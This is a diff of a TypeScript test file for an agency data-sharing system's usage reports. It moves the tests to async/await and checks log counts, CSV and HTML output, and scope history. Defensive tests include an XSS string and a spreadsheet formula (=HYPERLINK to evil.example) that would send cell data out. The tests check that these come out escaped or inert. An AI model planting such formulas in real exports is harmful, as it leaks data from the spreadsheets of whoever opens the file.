@@ -22,7 +22,7 @@ beforeEach(async () => {
   const world = servicesOn(w.cdb);
   link1 = await approvedLink(world, keys);
   link2 = await approvedLink(world, keys, { account: 'a001b' });
-  world.registry.addAgency({ code: 'A002', name: '勞動部' }, 'test');
+  await world.registry.addAgency({ code: 'A002', name: '勞動部' }, 'test');
   link3 = await approvedLink(world, keys, { agency: 'A002', account: 'a002' });
   const add = (when: string, e: LogEntry) => w.append(e, when);
   const built = (when: string, linkId: number, rows: number, fields: string, agency = 'A001') =>
@@ -30,27 +30,27 @@ beforeEach(async () => {
   const dl = (when: string, linkId: number, account: string, ip: string, bytes: number, result: string) =>
     add(when, { type: 'file.downloaded', agency: 'A001', linkId, actor: account, ip, channel: 'sftp-pull', object: `f-${when}`, detail: { bytes, result } });
   // 2025-12-31 23:59 Taipei: outside. 2026-01-01 00:00 Taipei: inside.
-  built('2025-12-31T15:59:00.000Z', link1, 999, 'person_id');
-  built('2025-12-31T16:00:00.000Z', link1, 100, 'person_id,nationality:mask');
-  dl('2026-01-11T02:00:00.000Z', link1, 'a001', '10.0.0.1', 1000, 'complete');
-  dl('2026-01-12T02:00:00.000Z', link1, 'a001', '10.0.0.2', 500, 'partial');
-  add('2026-01-20T02:00:00.000Z', { type: 'auth.failed', agency: 'A001', linkId: link1, actor: 'a001', ip: '10.0.0.9', detail: { method: 'publickey', reason: 'key.unknown' } });
-  add('2026-01-20T02:01:00.000Z', { type: 'auth.failed', agency: 'A001', linkId: link1, actor: 'a001', ip: '10.0.0.9', detail: { method: 'publickey', reason: 'signature.invalid' } });
-  add('2026-01-20T02:02:00.000Z', { type: 'auth.failed', ip: '10.0.0.66', detail: { method: 'publickey', reason: 'account.unknown', username: 'root' } });
-  built('2026-02-05T02:00:00.000Z', link1, 50, 'person_id,nationality:mask');
-  built('2026-02-06T02:00:00.000Z', link2, 10, 'person_id');
-  dl('2026-02-06T03:00:00.000Z', link1, 'a001', '10.0.0.1', 2000, 'complete');
-  built('2026-02-07T02:00:00.000Z', link3, 7777, 'person_id', 'A002');
-  add('2026-03-01T02:00:00.000Z', { type: 'file.pushed', agency: 'A001', linkId: link1, actor: 'worker', channel: 'sftp-push', object: 'p1', detail: { bytes: 300 } });
-  built('2026-03-31T16:00:00.000Z', link1, 888, 'person_id'); // 2026-04-01 Taipei: outside
+  await built('2025-12-31T15:59:00.000Z', link1, 999, 'person_id');
+  await built('2025-12-31T16:00:00.000Z', link1, 100, 'person_id,nationality:mask');
+  await dl('2026-01-11T02:00:00.000Z', link1, 'a001', '10.0.0.1', 1000, 'complete');
+  await dl('2026-01-12T02:00:00.000Z', link1, 'a001', '10.0.0.2', 500, 'partial');
+  await add('2026-01-20T02:00:00.000Z', { type: 'auth.failed', agency: 'A001', linkId: link1, actor: 'a001', ip: '10.0.0.9', detail: { method: 'publickey', reason: 'key.unknown' } });
+  await add('2026-01-20T02:01:00.000Z', { type: 'auth.failed', agency: 'A001', linkId: link1, actor: 'a001', ip: '10.0.0.9', detail: { method: 'publickey', reason: 'signature.invalid' } });
+  await add('2026-01-20T02:02:00.000Z', { type: 'auth.failed', ip: '10.0.0.66', detail: { method: 'publickey', reason: 'account.unknown', username: 'root' } });
+  await built('2026-02-05T02:00:00.000Z', link1, 50, 'person_id,nationality:mask');
+  await built('2026-02-06T02:00:00.000Z', link2, 10, 'person_id');
+  await dl('2026-02-06T03:00:00.000Z', link1, 'a001', '10.0.0.1', 2000, 'complete');
+  await built('2026-02-07T02:00:00.000Z', link3, 7777, 'person_id', 'A002');
+  await add('2026-03-01T02:00:00.000Z', { type: 'file.pushed', agency: 'A001', linkId: link1, actor: 'worker', channel: 'sftp-push', object: 'p1', detail: { bytes: 300 } });
+  await built('2026-03-31T16:00:00.000Z', link1, 888, 'person_id'); // 2026-04-01 Taipei: outside
 });
 afterEach(() => w.close());
 
 const NOW = new Date('2026-04-02T00:00:00Z');
 
 describe('report usage (R4.2, R6.4, R9.1)', () => {
-  it("one link's figures match the log", () => {
-    const r = usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
+  it("one link's figures match the log", async () => {
+    const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
     expect(r.scope).toEqual({ agency: 'A001', linkId: link1, links: [link1] });
     expect(r.deliveries).toEqual({ count: 2, rows: 150, bytes: 1500, byLink: [{ linkId: link1, count: 2, rows: 150 }] });
     expect(r.fields).toEqual([
@@ -77,8 +77,8 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
     expect(r.events).toEqual({ 'extract.built': 2, 'file.downloaded': 3, 'auth.failed': 2, 'file.pushed': 1 });
   });
 
-  it("an agency's report covers its links and nothing of other agencies", () => {
-    const r = usageReport(w.cdb, { agency: 'a001' }, '2026-01-01', '2026-03-31', NOW);
+  it("an agency's report covers its links and nothing of other agencies", async () => {
+    const r = await usageReport(w.cdb, { agency: 'a001' }, '2026-01-01', '2026-03-31', NOW);
     expect(r.scope).toEqual({ agency: 'A001', linkId: null, links: [link1, link2] });
     expect(r.deliveries).toMatchObject({ count: 3, rows: 160, byLink: [{ linkId: link1, count: 2, rows: 150 }, { linkId: link2, count: 1, rows: 10 }] });
     expect(r.fields).toEqual([
@@ -86,12 +86,12 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
       { field: 'nationality:mask', deliveries: 2, rows: 150 },
     ]);
     expect(r.months.map((m) => m.deliveries)).toEqual([1, 2, 0]);
-    expect(usageReport(w.cdb, { agency: 'A002' }, '2026-01-01', '2026-03-31', NOW).deliveries).toMatchObject({ count: 1, rows: 7777 });
+    expect((await usageReport(w.cdb, { agency: 'A002' }, '2026-01-01', '2026-03-31', NOW)).deliveries).toMatchObject({ count: 1, rows: 7777 });
   });
 
-  it('CSV and HTML carry the same figures; HTML escapes what the log holds', () => {
-    w.append({ type: 'file.downloaded', agency: 'A001', linkId: link1, actor: '<script>x</script>', ip: '10.0.0.1', detail: { bytes: 1, result: 'complete' } }, '2026-03-02T02:00:00.000Z');
-    const r = usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
+  it('CSV and HTML carry the same figures; HTML escapes what the log holds', async () => {
+    await w.append({ type: 'file.downloaded', agency: 'A001', linkId: link1, actor: '<script>x</script>', ip: '10.0.0.1', detail: { bytes: 1, result: 'complete' } }, '2026-03-02T02:00:00.000Z');
+    const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
     const csv = reportCsv(r);
     expect(csv.split('\r\n')[0]).toBe('section,key,metric,value');
     expect(csv).toContain('deliveries,total,rows,150\r\n');
@@ -112,22 +112,22 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
       );
     const refused = (when: string, linkId: number, ip: string, detail: Record<string, unknown>) =>
       w.append({ type: 'query.refused', agency: 'A001', linkId, revision: 1, actor: 'cert:0123456789abcdef', ip, channel: 'online-query', object: 'entry_exit', detail }, when);
-    beforeEach(() => {
-      answered('2026-02-10T02:00:00.000Z', link1, '10.0.0.1', 'REF-1', 3, 2, 5);
-      answered('2026-02-10T03:00:00.000Z', link1, '10.0.0.2', 'REF-1', 2, 0, 0);
-      answered('2026-02-11T02:00:00.000Z', link1, '10.0.0.1', 'REF-2', 4, undefined, 4); // written before `found` was
-      refused('2026-02-12T02:00:00.000Z', link1, '10.0.0.1', { code: 'cap.reached', ids: 10, reference: 'REF-3' });
-      refused('2026-02-12T02:01:00.000Z', link1, '203.0.113.5', { code: 'ip.not-allowed' });
-      refused('2026-02-12T02:02:00.000Z', link1, '10.0.0.1', { code: 'rate.limited', reference: 'REF-1' });
+    beforeEach(async () => {
+      await answered('2026-02-10T02:00:00.000Z', link1, '10.0.0.1', 'REF-1', 3, 2, 5);
+      await answered('2026-02-10T03:00:00.000Z', link1, '10.0.0.2', 'REF-1', 2, 0, 0);
+      await answered('2026-02-11T02:00:00.000Z', link1, '10.0.0.1', 'REF-2', 4, undefined, 4); // written before `found` was
+      await refused('2026-02-12T02:00:00.000Z', link1, '10.0.0.1', { code: 'cap.reached', ids: 10, reference: 'REF-3' });
+      await refused('2026-02-12T02:01:00.000Z', link1, '203.0.113.5', { code: 'ip.not-allowed' });
+      await refused('2026-02-12T02:02:00.000Z', link1, '10.0.0.1', { code: 'rate.limited', reference: 'REF-1' });
       // Refusals no rate limit bounds come once per interval with their count.
-      refused('2026-02-12T02:03:00.000Z', link1, '10.0.0.1', { code: 'rate.limited', count: 40, interval: 60 });
-      answered('2026-03-05T02:00:00.000Z', link2, '10.0.0.3', 'REF-9', 1, 1, 1);
-      answered('2026-03-05T02:00:00.000Z', link3, '10.0.0.4', 'REF-X', 100, 100, 100, 'A002');
-      answered('2026-03-31T16:00:00.000Z', link1, '10.0.0.1', 'REF-1', 50, 50, 50); // 2026-04-01 Taipei: outside
+      await refused('2026-02-12T02:03:00.000Z', link1, '10.0.0.1', { code: 'rate.limited', count: 40, interval: 60 });
+      await answered('2026-03-05T02:00:00.000Z', link2, '10.0.0.3', 'REF-9', 1, 1, 1);
+      await answered('2026-03-05T02:00:00.000Z', link3, '10.0.0.4', 'REF-X', 100, 100, 100, 'A002');
+      await answered('2026-03-31T16:00:00.000Z', link1, '10.0.0.1', 'REF-1', 50, 50, 50); // 2026-04-01 Taipei: outside
     });
 
-    it("R4.2 report usage counts a link's look-ups: requests, identifiers asked and found, by reference, address and link, refusals by code (aggregated refusals by their count)", () => {
-      const r = usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
+    it("R4.2 report usage counts a link's look-ups: requests, identifiers asked and found, by reference, address and link, refusals by code (aggregated refusals by their count)", async () => {
+      const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
       expect(r.queries).toEqual({
         requests: 46,
         answered: 3,
@@ -156,8 +156,8 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
       ]);
     });
 
-    it("R4.2 an agency's look-ups are per link and nothing of another agency's", () => {
-      const r = usageReport(w.cdb, { agency: 'A001' }, '2026-01-01', '2026-03-31', NOW);
+    it("R4.2 an agency's look-ups are per link and nothing of another agency's", async () => {
+      const r = await usageReport(w.cdb, { agency: 'A001' }, '2026-01-01', '2026-03-31', NOW);
       expect(r.queries).toMatchObject({ requests: 47, answered: 4, idsAsked: 10, idsFound: 3 });
       expect(r.queries.byLink).toEqual([
         { linkId: link1, requests: 46, ids: 9, found: 2 },
@@ -166,8 +166,8 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
       expect(r.queries.byReference.map((q) => q.reference)).not.toContain('REF-X');
     });
 
-    it('R4.2 CSV and HTML carry the look-ups', () => {
-      const r = usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
+    it('R4.2 CSV and HTML carry the look-ups', async () => {
+      const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
       const csv = reportCsv(r);
       expect(csv).toContain('queries,total,idsAsked,9\r\n');
       expect(csv).toContain('queries,total,idsFoundUnknown,4\r\n');
@@ -190,12 +190,12 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
     clock.advanceDays(10);
     const cr = await world.registry.fileChange(id, 'scope', { value: 'nationality in VNM' }, 'agency');
     clock.advanceDays(1);
-    world.registry.approveChange(cr.id, 'nia');
+    await world.registry.approveChange(cr.id, 'nia');
     const d0 = taipeiDate(approvedAt);
     const d11 = taipeiDate(clock.now());
     const catalogs = loadCatalogs();
 
-    const r = usageReport(w.cdb, { linkId: id }, d0, addDays(d0, 20), NOW, catalogs);
+    const r = await usageReport(w.cdb, { linkId: id }, d0, addDays(d0, 20), NOW, catalogs);
     expect(r.scopes).toEqual([
       { linkId: id, revision: 1, from: d0, until: d11, scope: { all: false, conditions: [{ field: 'nationality', op: 'in', values: ['VNM', 'IDN'] }] }, text: '國籍：越南、印尼' },
       { linkId: id, revision: 2, from: d11, until: null, scope: { all: false, conditions: [{ field: 'nationality', op: 'in', values: ['VNM'] }] }, text: '國籍：越南' },
@@ -204,30 +204,30 @@ describe('report usage (R4.2, R6.4, R9.1)', () => {
     expect(reportCsv(r)).toContain(`revision-scope,link ${id} revision 1,scope,"nationality in VNM,IDN"\r\n`);
     expect(reportHtml(r)).toContain(`<td class="n">${id}</td><td class="n">2</td><td>${d11}</td><td>-</td><td>國籍：越南</td>`);
     // After the change only the new scope was in force; before the approval none was.
-    expect(usageReport(w.cdb, { linkId: id }, addDays(d11, 1), addDays(d11, 9), NOW, catalogs).scopes.map((s) => s.revision)).toEqual([2]);
-    expect(usageReport(w.cdb, { linkId: id }, addDays(d0, -30), addDays(d0, -1), NOW, catalogs).scopes).toEqual([]);
+    expect((await usageReport(w.cdb, { linkId: id }, addDays(d11, 1), addDays(d11, 9), NOW, catalogs)).scopes.map((s) => s.revision)).toEqual([2]);
+    expect((await usageReport(w.cdb, { linkId: id }, addDays(d0, -30), addDays(d0, -1), NOW, catalogs)).scopes).toEqual([]);
     // The agency's report names the scope of each of its links, the whole-dataset ones with their justification.
-    const agency = usageReport(w.cdb, { agency: 'A001' }, d0, addDays(d0, 20), NOW, catalogs);
+    const agency = await usageReport(w.cdb, { agency: 'A001' }, d0, addDays(d0, 20), NOW, catalogs);
     expect(agency.scopes.find((s) => s.linkId === link1)).toMatchObject({ revision: 1, until: null, text: '全部資料（理由：test: the whole dataset）' });
     expect(agency.scopes.map((s) => s.linkId)).not.toContain(link3);
   });
 
-  it('R4.2 CSV formulas: a cell a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) comes out as text', () => {
+  it('R4.2 CSV formulas: a cell a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) comes out as text', async () => {
     const evil = '=HYPERLINK("http://evil.example/?d="&A1,"case")';
-    w.append({ type: 'query.answered', agency: 'A001', linkId: link1, actor: 'cert:0123456789abcdef', ip: '10.0.0.1', channel: 'online-query', object: 'entry_exit', detail: { ids: 1, found: 1, returned: 1, reference: evil, idHashes: ['h'], cert: 'c', idsToday: 1 } }, '2026-03-02T02:00:00.000Z');
-    w.append({ type: 'file.downloaded', agency: 'A001', linkId: link1, actor: '@SUM(1+1)', ip: '10.0.0.1', detail: { bytes: 1, result: 'complete' } }, '2026-03-02T02:00:00.000Z');
-    const csv = reportCsv(usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW));
+    await w.append({ type: 'query.answered', agency: 'A001', linkId: link1, actor: 'cert:0123456789abcdef', ip: '10.0.0.1', channel: 'online-query', object: 'entry_exit', detail: { ids: 1, found: 1, returned: 1, reference: evil, idHashes: ['h'], cert: 'c', idsToday: 1 } }, '2026-03-02T02:00:00.000Z');
+    await w.append({ type: 'file.downloaded', agency: 'A001', linkId: link1, actor: '@SUM(1+1)', ip: '10.0.0.1', detail: { bytes: 1, result: 'complete' } }, '2026-03-02T02:00:00.000Z');
+    const csv = reportCsv(await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW));
     expect(csv).toContain(`query-reference,"'=HYPERLINK(""http://evil.example/?d=""&A1,""case"")",requests,1\r\n`);
     expect(csv).toContain("downloads,'@SUM(1+1)@10.0.0.1,count,1\r\n");
     expect(csv.split('\r\n').some((line) => /(^|,)"?[=+\-@\t\r]/.test(line))).toBe(false);
     expect(['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'plain', null, -1, 0].map(spreadsheetSafe)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", 'plain', '', '-1', '0']);
   });
 
-  it('refuses a scope that does not exist or is ambiguous', () => {
-    expect(() => usageReport(w.cdb, {}, '2026-01-01', '2026-03-31', NOW)).toThrow(/give an agency or a link \(one of them\)/);
-    expect(() => usageReport(w.cdb, { agency: 'A001', linkId: 1 }, '2026-01-01', '2026-03-31', NOW)).toThrow(/one of them/);
-    expect(() => usageReport(w.cdb, { agency: 'Z999' }, '2026-01-01', '2026-03-31', NOW)).toThrow(/no agency Z999/);
-    expect(() => usageReport(w.cdb, { linkId: 999 }, '2026-01-01', '2026-03-31', NOW)).toThrow(/no link 999/);
-    expect(() => usageReport(w.cdb, { linkId: link1 }, '2026-03-31', '2026-01-01', NOW)).toThrow(/the period's end 2026-01-01 is before its start 2026-03-31/);
+  it('refuses a scope that does not exist or is ambiguous', async () => {
+    await expect(usageReport(w.cdb, {}, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/give an agency or a link \(one of them\)/);
+    await expect(usageReport(w.cdb, { agency: 'A001', linkId: 1 }, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/one of them/);
+    await expect(usageReport(w.cdb, { agency: 'Z999' }, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/no agency Z999/);
+    await expect(usageReport(w.cdb, { linkId: 999 }, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/no link 999/);
+    await expect(usageReport(w.cdb, { linkId: link1 }, '2026-03-31', '2026-01-01', NOW)).rejects.toThrow(/the period's end 2026-01-01 is before its start 2026-03-31/);
   });
 });
